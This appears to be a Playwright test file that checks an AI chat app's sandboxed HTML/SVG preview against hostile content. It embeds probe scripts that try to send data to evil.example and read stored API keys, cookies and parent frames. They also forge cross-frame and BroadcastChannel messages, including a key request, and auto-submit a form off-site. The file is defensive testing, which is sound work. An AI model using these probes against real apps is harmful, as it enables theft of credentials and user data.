import type { Frame, Page, Request } from '@playwright/test';
import { ChatPage, expect, importConversation, mockConfig, test } from './fixtures.ts';
import { mockUrl } from './ports.ts';

/** The tabs' channel (storage/keys.ts); the channel test proves the app listens under this name. */
const tabChannel = 'ai-chat-sync';

/**
 * HTML and SVG code blocks run in a sandboxed preview document. These previews are hostile: each
 * tries to reach the network, the app's data, the app's page, its other frames or a new window,
 * and writes what it managed into its own page, where the test reads it. It also keeps sending the
 * app messages it must not act on, each round ending with a `{ probe: round }` mark; what it hears
 * on the tabs' channel it writes into `data-heard`.
 */
const probes = `<!doctype html>
<html><body>
<h1>Probe page</h1>
<pre id="results"></pre>
<img src="https://evil.example/img">
<link rel="stylesheet" href="https://evil.example/style.css">
<script src="https://evil.example/script.js"></script>
<div style="background: url(https://evil.example/bg.png)">styled</div>
<iframe src="https://evil.example/frame"></iframe>
<script>
  const results = {};
  const attempt = async (name, run) => {
    try {
      const value = await run();
      results[name] = 'reached: ' + String(value).slice(0, 60);
    } catch (error) {
      results[name] = 'blocked';
    }
  };
  const loads = (make) => new Promise((resolve, reject) => {
    const target = make();
    target.onopen = target.onload = () => resolve('open');
    target.onerror = () => reject(new Error('refused'));
  });
  (async () => {
    await attempt('fetch', () => fetch('https://evil.example/fetch').then((r) => r.status));
    await attempt('fetch this host', () => fetch('/').then((r) => r.status));
    await attempt('fetch the provider', () => fetch(${JSON.stringify(`${mockUrl}/v1/models`)}).then((r) => r.status));
    await attempt('xhr', () => loads(() => { const x = new XMLHttpRequest(); x.open('GET', 'https://evil.example/xhr'); x.send(); return x; }));
    await attempt('websocket', () => loads(() => new WebSocket('wss://evil.example/socket')));
    await attempt('event source', () => loads(() => new EventSource('https://evil.example/events')));
    await attempt('worker', () => loads(() => new Worker('data:text/javascript,postMessage(1)')));
    await attempt('webrtc', () => new RTCPeerConnection({ iceServers: [{ urls: 'stun:evil.example:3478' }] }).createDataChannel('x').label);
    await attempt('webrtc from a child frame', () => { const child = document.body.appendChild(document.createElement('iframe')); return new child.contentWindow.RTCPeerConnection({ iceServers: [{ urls: 'stun:evil.example:3478' }] }).createDataChannel('y').label; });
    await attempt('local storage', () => localStorage.getItem('ai-chat-config'));
    await attempt('session storage', () => sessionStorage.length);
    await attempt('indexed db', () => indexedDB.open('ai-chat').readyState);
    await attempt('cookie', () => document.cookie);
    await attempt('parent page', () => parent.document.title);
    await attempt('parent storage', () => parent.localStorage.getItem('ai-chat-config'));
    await attempt('top navigation', () => { top.location.href = 'https://evil.example/top'; return top.location.href; });
    await attempt('popup', () => { const opened = window.open('https://evil.example/popup'); if (!opened) throw new Error('none'); return 'window'; });
    // A beacon is sent later, when the policy refuses it: the refusal is its outcome.
    await attempt('beacon', () => new Promise((resolve, reject) => {
      addEventListener('securitypolicyviolation', (event) => { if (event.blockedURI.includes('/beacon')) reject(new Error('refused')); });
      if (!navigator.sendBeacon('https://evil.example/beacon', 'x')) reject(new Error('refused'));
    }));
    // The app's other frames (the diagram renderer): read, and below asked to draw.
    const others = Array.from({ length: parent.length }, (_, i) => parent[i]).filter((other) => other !== window);
    document.body.dataset.others = String(others.length);
    for (const [n, other] of others.entries()) {
      await attempt('frame ' + n + ' document', () => other.document.body.innerHTML);
      await attempt('frame ' + n + ' address', () => other.location.href);
    }
    // What would make a tab drop the open conversation, reload them all, or hand over its key.
    const tabMessages = [{ type: 'conversation-deleted', id: 'imported' }, { type: 'conversations-replaced' }, { type: 'key-request' }];
    try {
      const channel = new BroadcastChannel(${JSON.stringify(tabChannel)});
      channel.onmessage = ({ data }) => { document.body.dataset.heard = (document.body.dataset.heard ?? '') + String(data?.message?.type) + ' '; };
      for (const message of tabMessages) channel.postMessage({ from: 'preview', message });
    } catch {}
    // The diagram frame's messages, forged (ready, drawn, unavailable), and requests to draw sent
    // to it; again every 100 ms, so a diagram asked for later finds them waiting.
    const forgedSvg = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 300 20"><text y="15">FORGED ANSWER</text></svg>';
    let round = 0;
    const forge = () => {
      parent.postMessage({ ready: true }, '*');
      for (let id = 0; id < 10; id++) {
        parent.postMessage({ id, svg: forgedSvg }, '*');
        for (const other of others) other.postMessage({ id, source: 'graph TD; F[FORGED REQUEST]', dark: false }, '*');
      }
      for (const message of tabMessages) parent.postMessage({ from: 'preview', message }, '*');
      parent.postMessage({ unavailable: true }, '*');
      parent.postMessage({ probe: round++ }, '*');
    };
    forge();
    setInterval(forge, 100);
    document.getElementById('results').textContent = JSON.stringify(results);
    document.body.dataset.done = 'true';
  })();
</script>
</body></html>`;

const leaver = `<p>Leaving</p>
<form id="f" action="https://evil.example/form" method="post"><input name="k" value="v"></form>
<script>
  try { document.getElementById('f').submit(); } catch {}
  location.href = 'https://evil.example/self-navigation';
</script>`;

const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="120" height="60"><circle id="dot" cx="30" cy="30" r="20" fill="teal"/><script>document.getElementById('dot').setAttribute('data-ran', 'yes')</script></svg>`;

const homecoming = `<script>location.href = '/';</script>`;

const reply = `Home:\n\n\`\`\`html\n${homecoming}\n\`\`\`\n\nProbe:\n\n\`\`\`html\n${probes}\n\`\`\`\n\nLeaver:\n\n\`\`\`html\n${leaver}\n\`\`\`\n\nIcon:\n\n\`\`\`svg\n${svg}\n\`\`\`\n\nThe end.`;

const flowchart = ['```mermaid', 'graph TD', '  A[Question] --> B[Answer]', '```'].join('\n');
const diagramReply = `${flowchart}\n\nProbe:\n\n\`\`\`html\n${probes}\n\`\`\``;

/**
 * What answered (a response reached the page or a frame), what the browser refused by policy,
 * and every popup; evil.example answers anything that gets out.
 */
async function watch(page: Page): Promise<{ answered: string[]; refused: string[]; popups: string[] }> {
  const answered: string[] = [];
  const refused: string[] = [];
  const popups: string[] = [];
  page.context().on('response', (response) => answered.push(response.url()));
  page.context().on('requestfailed', (request: Request) => {
    if (request.failure()?.errorText === 'csp') refused.push(request.url());
  });
  page.context().on('page', (opened) => popups.push(opened.url()));
  await page
    .context()
    .route('https://evil.example/**', (route) =>
      route.fulfill({ status: 200, contentType: 'text/html', body: '<p>evil</p>' }),
    );
  return { answered, refused, popups };
}

function previewFrames(page: Page): Frame[] {
  return page.frames().filter((frame) => frame !== page.mainFrame());
}

async function openPreview(page: Page, index: number): Promise<void> {
  const button = page.getByRole('button', { name: 'Preview' }).nth(index);
  await button.click();
  await expect(button).toHaveAttribute('aria-pressed', 'true');
}

type Heard = { from: unknown; type: unknown };

/**
 * Listens in the app's page from now on: for the preview's round marks, which follow its forged
 * messages, and for everything said on the tabs' channel.
 */
async function listen(page: Page) {
  await page.evaluate((name) => {
    const log = window as unknown as { rounds: number; heard: Heard[]; channel: BroadcastChannel };
    log.rounds = 0;
    log.heard = [];
    addEventListener('message', ({ data }: MessageEvent<{ probe?: unknown } | null>) => {
      if (typeof data?.probe === 'number') log.rounds += 1;
    });
    log.channel = new BroadcastChannel(name);
    log.channel.onmessage = ({
      data,
    }: MessageEvent<{ from?: unknown; message?: { type?: unknown } } | null>) =>
      log.heard.push({ from: data?.from, type: data?.message?.type });
  }, tabChannel);
  const rounds = () => page.evaluate(() => (window as unknown as { rounds: number }).rounds);
  return {
    rounds,
    heard: () => page.evaluate(() => (window as unknown as { heard: Heard[] }).heard),
    /** Until a whole round of the preview's messages, sent after this call, has reached the page. */
    async nextRound() {
      const seen = await rounds();
      await expect.poll(rounds).toBeGreaterThanOrEqual(seen + 2);
    },
  };
}

/** Says something on the tabs' channel as a script of the app's origin (another tab) would. */
async function tell(page: Page, message: Record<string, unknown>): Promise<void> {
  await page.evaluate(
    ([name, message]) => new BroadcastChannel(name).postMessage({ from: 'test', message }),
    [tabChannel, message] as const,
  );
}

test('a hostile HTML preview runs its scripts but reaches no network, storage, page or window', async ({
  page,
}) => {
  const seen = await watch(page);
  const chat = new ChatPage(page);
  await chat.open(mockConfig('openai', 'secret-key-123'));
  await importConversation(page, reply);
  await expect(page.getByRole('button', { name: 'Preview' })).toHaveCount(4);
  // Nothing runs before the reader asks.
  await expect(page.locator('iframe')).toHaveCount(0);

  await openPreview(page, 1);
  const frame = page.frameLocator('iframe[title="Preview"]');
  await expect(frame.locator('body[data-done="true"]')).toBeAttached();
  await expect(frame.getByRole('heading', { name: 'Probe page' })).toBeVisible();
  const results = JSON.parse((await frame.locator('#results').textContent()) ?? '{}') as Record<
    string,
    string
  >;
  expect(Object.keys(results)).toHaveLength(18);
  for (const [name, outcome] of Object.entries(results))
    expect(`${name}: ${outcome}`).toBe(`${name}: blocked`);

  expect(seen.answered.filter((url) => url.includes('evil.example'))).toEqual([]);
  expect(seen.answered.filter((url) => url.startsWith(mockUrl))).toEqual([]);
  // The markup's own loads were asked for and refused by the preview's policy.
  expect(seen.refused).toEqual(
    expect.arrayContaining(
      ['img', 'style.css', 'script.js', 'bg.png'].map((name) => `https://evil.example/${name}`),
    ),
  );
  expect(seen.popups).toEqual([]);
  expect(new URL(page.url()).pathname).toBe('/');
  // The preview is its own opaque-origin document, framed without allow-same-origin.
  const iframe = page.locator('iframe[title="Preview"]');
  await expect(iframe).toHaveAttribute('sandbox', 'allow-scripts');
  expect(new URL((await iframe.getAttribute('src')) ?? '', page.url()).pathname).toBe('/preview.html');
  expect(await previewFrames(page)[0]?.evaluate(() => origin)).toBe('null');
  // The app's key is still there, untouched.
  expect(await page.evaluate(() => localStorage.getItem('ai-chat-config'))).toContain('secret-key-123');
});

test('a preview cannot navigate itself or submit a form to another site', async ({ page }) => {
  const seen = await watch(page);
  const chat = new ChatPage(page);
  await chat.open();
  await importConversation(page, reply);
  await openPreview(page, 2);
  // The app's frame-src refuses the navigation: the frame ends on the browser's error page.
  await expect.poll(() => previewFrames(page)[0]?.url() ?? '').toMatch(/^chrome-error:/);
  expect(seen.answered.filter((url) => url.includes('evil.example'))).toEqual([]);
  expect(new URL(page.url()).pathname).toBe('/');
});

test('an SVG preview draws and runs inside the sandbox; closing it removes the frame', async ({ page }) => {
  const chat = new ChatPage(page);
  await chat.open();
  await importConversation(page, reply);
  await openPreview(page, 3);
  const dot = page.frameLocator('iframe[title="Preview"]').locator('#dot');
  await expect(dot).toHaveAttribute('data-ran', 'yes');
  await expect(dot).toBeVisible();
  await page.getByRole('button', { name: 'Preview' }).nth(3).click();
  await expect(page.locator('iframe')).toHaveCount(0);
});

test('a preview that loads the app into itself gets a line of text, not the app', async ({ page }) => {
  // As on a host that serves its files to any origin (GitHub Pages does): the app's scripts then
  // load even into the preview's opaque origin, and the app itself must refuse to run there.
  await page.route('**/assets/**', async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, headers: { ...response.headers(), 'access-control-allow-origin': '*' } });
  });
  const chat = new ChatPage(page);
  await chat.open();
  await importConversation(page, reply);
  await openPreview(page, 0);
  const frame = page.frameLocator('iframe[title="Preview"]');
  await expect(frame.getByText('BYOK Chat does not run inside a frame.')).toBeVisible();
  await expect(frame.getByRole('heading', { name: 'Conversations' })).toHaveCount(0);
});

test("the app's policy frames only its own preview document", async ({ page }) => {
  await page.goto('/');
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(policy).toContain("frame-src 'self'");
  const preview = await page.request.get('/preview.html');
  const own =
    /http-equiv="Content-Security-Policy"\s+content="([^"]+)"/.exec(await preview.text())?.[1] ?? '';
  for (const directive of [
    "default-src 'none'",
    "connect-src 'none'",
    "frame-src 'none'",
    "form-action 'none'",
    "base-uri 'none'",
  ])
    expect(own).toContain(directive);
  expect(own).not.toMatch(/https?:|'self'|\*/);
});

test('a preview can neither read the diagram frame nor have a drawing taken from it or forged', async ({
  page,
}) => {
  const chat = new ChatPage(page);
  await chat.open();
  await importConversation(page, diagramReply);
  const diagram = chat.messages('assistant').getByRole('img', { name: 'Diagram' });
  await expect(diagram).toBeVisible({ timeout: 20_000 });
  const light = await diagram.getAttribute('src');
  const renderer = page.frames().find((frame) => frame.url().endsWith('/diagram.html'));
  if (!renderer) throw new Error('No diagram frame');
  // From now on the diagram frame notes each source it is to draw, and draws none until released.
  await renderer.evaluate(() => {
    const mermaid = Reflect.get(globalThis, 'mermaid') as {
      render(id: string, text: string): Promise<unknown>;
    };
    const render = mermaid.render.bind(mermaid);
    const log = globalThis as unknown as { drawn: string[]; release(): void };
    log.drawn = [];
    const held = new Promise<void>((resolve) => (log.release = resolve));
    mermaid.render = async (id, text) => {
      log.drawn.push(text);
      await held;
      return render(id, text);
    };
  });
  const drawn = () => renderer.evaluate(() => (globalThis as unknown as { drawn: string[] }).drawn);
  const listening = await listen(page);

  await openPreview(page, 0);
  const frame = page.frameLocator('iframe[title="Preview"]');
  await expect(frame.locator('body[data-done="true"]')).toBeAttached();
  // It found the diagram frame beside it, and could read neither its document nor its address.
  await expect(frame.locator('body')).toHaveAttribute('data-others', '1');
  const results = JSON.parse((await frame.locator('#results').textContent()) ?? '{}') as Record<
    string,
    string
  >;
  expect(results).toMatchObject({ 'frame 0 document': 'blocked', 'frame 0 address': 'blocked' });
  // A first round of forgeries has reached the page: its 'unavailable' closed no frame (the app
  // would remove it at once).
  await expect.poll(listening.rounds).toBeGreaterThan(0);
  expect(await page.locator('iframe[title="Diagram renderer"]').count()).toBe(1);

  // The dark theme has the diagram drawn again (id 1): held in the frame, the app waits for it
  // while whole rounds of forged answers arrive, then gets the real one.
  await page.getByTestId('theme-toggle').click();
  await expect.poll(async () => (await drawn()).length).toBeGreaterThan(0);
  // The frame was asked for this diagram only: the preview's requests, sent before, were ignored.
  expect(await drawn()).toEqual([flowchart.split('\n').slice(1, -1).join('\n')]);
  await listening.nextRound();
  await renderer.evaluate(() => (globalThis as unknown as { release(): void }).release());
  await expect(diagram).not.toHaveAttribute('src', light ?? '');
  const svg = decodeURIComponent(
    ((await diagram.getAttribute('src')) ?? '').replace(/^data:image\/svg\+xml;charset=utf-8,/, ''),
  );
  expect(svg).toContain('Question');
  expect(svg).not.toContain('FORGED');
  await expect(chat.messages('assistant').getByRole('img')).toHaveCount(1);
  expect(await drawn()).toHaveLength(1);
});

test("a preview is not heard on the tabs' channel, and hears nothing there", async ({ page }) => {
  const chat = new ChatPage(page);
  await chat.open(mockConfig('openai', 'secret-key-123'));
  await importConversation(page, reply);
  // Keys protected and unlocked: this tab hands its key to any tab that asks for it.
  await page.getByRole('checkbox', { name: 'Protect keys with a passphrase' }).check();
  const dialog = page.getByRole('dialog', { name: 'Protect keys with a passphrase' });
  await dialog.getByLabel('Passphrase', { exact: true }).fill('correct horse battery staple');
  await dialog.getByLabel('Repeat passphrase').fill('correct horse battery staple');
  await dialog.getByRole('button', { name: 'Protect keys' }).click();
  await expect(chat.toast('Keys are protected with your passphrase')).toBeVisible();
  await expect(chat.rows).toHaveCount(1);
  const listening = await listen(page);

  await openPreview(page, 1);
  const frame = page.frameLocator('iframe[title="Preview"]');
  await expect(frame.locator('body[data-done="true"]')).toBeAttached();
  // A key request from the app's own origin, after the preview's, is answered: one answer, so
  // the preview's request (and its 'conversation-deleted', 'conversations-replaced') never arrived.
  await tell(page, { type: 'key-request' });
  await expect.poll(async () => (await listening.heard()).map(({ type }) => type)).toContain('key-share');
  expect(await listening.heard()).toEqual([
    { from: 'test', type: 'key-request' },
    { from: expect.any(String), type: 'key-share' },
  ]);
  expect(await chat.rows.count()).toBe(1);
  // Nor did the preview hear that request or the key handed over, a whole round of its own later.
  await listening.nextRound();
  expect(await frame.locator('body').getAttribute('data-heard')).toBeNull();
  // The same 'conversation-deleted' from the app's origin is taken: the count above would show it.
  await tell(page, { type: 'conversation-deleted', id: 'imported' });
  await expect(chat.rows).toHaveCount(0);
});
